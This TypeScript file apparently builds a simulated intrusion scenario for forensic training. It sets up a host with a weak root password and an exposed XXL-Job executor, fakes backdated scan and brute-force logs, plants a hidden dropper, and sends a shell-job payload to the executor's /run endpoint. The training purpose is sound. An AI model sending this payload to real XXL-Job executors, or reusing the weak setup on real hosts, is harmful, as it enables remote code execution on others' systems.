// Four hundred guesses a day and scans on many days, up to the very minute; none of them opened anything.
import { fakedBy, loggersWith } from '../../clock.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { xxlJob } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { owner, weakRoot } from '../../weak-root.ts'
import { wordsWith } from '../../words.ts'

export function dress(dress: Dress): void {
  weakRoot(dress, { days: 25, guesses: 400, friends: [owner] })
  dress.account('root', 'Correct-Horse-9')
  dress.toy(xxlJob)
  nginx(dress, 'root /srv/www;')
  dress.enable('nginx')
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  for (const days of [20, 9, 2]) {
    await loggersWith(stage, fakedBy(-days * 86_400))
    await stage.scan(`192.0.2.${100 + days}`)
  }
  await loggersWith(stage, {})
  await stage.guess('198.51.100.201', 'root', wordsWith('', 25))
  await stage.scan('198.51.100.201')
  const line = dropper(stage, { path: '/tmp/.glue/jobhandlerd' })
  stage.mark('occurrence')
  const body = {
    jobId: 7,
    executorHandler: 'shell',
    executorBlockStrategy: 'COVER_EARLY',
    logId: 31,
    glueType: 'GLUE_SHELL',
    glueSource: line,
  }
  await stage.http('203.0.113.119', ':9999/run', JSON.stringify(body), { 'Content-Type': 'application/json' })
}
